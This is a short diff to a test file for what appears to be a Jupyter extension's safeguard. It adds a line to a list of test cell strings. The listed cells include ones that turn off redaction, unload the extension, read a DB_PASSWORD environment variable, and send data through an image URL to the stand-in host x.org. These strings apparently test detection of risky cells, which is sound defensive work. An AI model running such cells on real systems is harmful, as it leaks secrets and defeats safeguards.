@@ -83,6 +83,7 @@ def test_no_ordinary_cell_is_asked_about_needlessly(shared_data: Path) -> None:
         "config DevstralConfig.redact = False",
         "unload_ext jupyter_devstral",
         "%time env DB_PASSWORD",
+        "from decouple import config",
         "get_ipython().run_cell('env DB_PASSWORD')",
         "HTML(f'<img src=\"{address}\">')",
         "html = '<img src=\"//x.org/?' + s + '\">'\nHTML(html)",
